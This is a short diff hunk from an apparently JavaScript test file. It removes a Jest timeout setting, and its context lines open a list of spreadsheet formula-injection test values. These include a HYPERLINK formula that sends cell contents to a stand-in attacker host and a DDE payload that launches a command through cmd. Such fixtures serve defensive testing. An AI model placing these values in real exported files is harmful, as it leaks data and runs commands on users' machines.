@@ -14,8 +14,6 @@ import { railyard } from '../support/processes.js';
 import { experimentOf } from '../support/reliability.js';
 import { replaced } from '../support/routes.js';
 
-jest.setTimeout(120_000);
-
 const NAMES = [
   '=HYPERLINK("http://evil.example?x="&A1,"see")',
   "+1+cmd|' /C calc'!A0",
